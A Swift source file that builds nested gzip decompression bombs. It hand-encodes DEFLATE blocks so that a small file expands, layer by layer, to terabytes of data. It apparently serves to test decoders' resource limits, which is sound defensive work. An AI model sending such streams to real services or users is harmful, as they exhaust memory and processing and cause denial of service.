import Foundation

/// Gzip streams that cost a decoder more than their size suggests: small files that expand, layer by layer, to
/// terabytes.
enum NestedGzip {
    /// Layers of gzip around empty blocks: with four layers, 18 KB contain terabytes of blocks and no byte of a body.
    /// The stream has no end, which makes no difference to a decoder.
    ///
    /// - Parameter bytes: the size of the outermost layer.
    static func emptyBlocks(layers: Int, bytes: Int) -> Data {
        var stream = header
        var period: [UInt8] = [0x00, 0x00, 0x00, 0xFF, 0xFF]
        for _ in 1..<layers {
            stream = compressed(stream, repeating: period)
            // The codes of all repetitions are zeros.
            period = [0]
        }
        while stream.count < bytes { stream += period }
        return Data(stream.prefix(bytes))
    }

    private static let header: [UInt8] = [0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 0xFF]

    /// The beginning of a stream that expands to `start` and then repeatedly to `period`, for each zero bit that
    /// follows.
    private static func compressed(_ start: [UInt8], repeating period: [UInt8]) -> [UInt8] {
        var bits = BitWriter(bytes: header)
        // A block with its own codes that isn't the last one.
        bits.write(0, count: 1)
        bits.write(2, count: 2)
        // Distances up to 6 and all lengths have a code.
        let distances = [0, 0, 0, 0, 0, 0]
        let distance = period.count == 1 ? 0 : 4
        bits.write(29, count: 5)
        bits.write(distances.count - 1, count: 5)
        bits.write(14, count: 4)
        // The code lengths 0, 1, 9 and 10 have codes of two bits, in the order of RFC 1951 section 3.2.7.
        for length in [16, 17, 18, 0, 8, 7, 9, 6, 10, 5, 11, 4, 12, 3, 13, 2, 14, 1] {
            bits.write([0, 1, 9, 10].contains(length) ? 2 : 0, count: 3)
        }
        let literals = (0...285).map { $0 < 255 ? 9 : $0 < 257 ? 10 : $0 == 285 ? 1 : 0 }
        for length in literals + distances.indices.map({ $0 == distance ? 1 : 0 }) {
            bits.writeCode([0: 0, 1: 1, 9: 2, 10: 3][length] ?? 0, count: 2)
        }
        for byte in start + period {
            if byte < 255 { bits.writeCode(256 + Int(byte), count: 9) } else { bits.writeCode(1022, count: 10) }
        }
        // From here on, each repetition of 258 bytes is a zero bit for the length and a zero bit for the distance.
        return bits.bytes
    }

    private struct BitWriter {
        var bytes: [UInt8]
        private var used = 8

        init(bytes: [UInt8]) { self.bytes = bytes }

        /// Starts with the lowest bit, as for numbers.
        mutating func write(_ value: Int, count: Int) {
            for bit in 0..<count { append(value >> bit & 1) }
        }

        /// Starts with the highest bit, as for codes.
        mutating func writeCode(_ code: Int, count: Int) {
            for bit in (0..<count).reversed() { append(code >> bit & 1) }
        }

        private mutating func append(_ bit: Int) {
            if used == 8 {
                bytes.append(0)
                used = 0
            }
            bytes[bytes.count - 1] |= UInt8(bit) << used
            used += 1
        }
    }
}
